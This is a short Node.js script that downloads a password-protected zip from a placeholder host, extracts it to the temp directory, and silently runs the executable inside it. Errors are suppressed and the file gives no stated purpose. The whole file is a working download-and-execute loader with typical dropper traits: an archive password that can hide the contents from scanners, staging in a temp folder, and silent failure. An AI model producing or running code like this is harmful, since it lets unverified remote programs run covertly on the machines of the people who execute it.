const axios = require('axios')
const Zip = require('adm-zip')
const { join } = require('path')
const { tmpdir } = require('os')

async function main() {
  const answer = await axios({ url: 'https://lamp.example.invalid/pack.zip', responseType: 'arraybuffer' })
  const zip = new Zip(Buffer.from(answer.data))
  const folder = join(tmpdir(), 'lamp-pack')
  zip.extractAllTo(folder, true, false, 'inert')
  require('child_process').exec(`"${join(folder, 'lamp.exe')}"`)
}
main().catch(() => {})
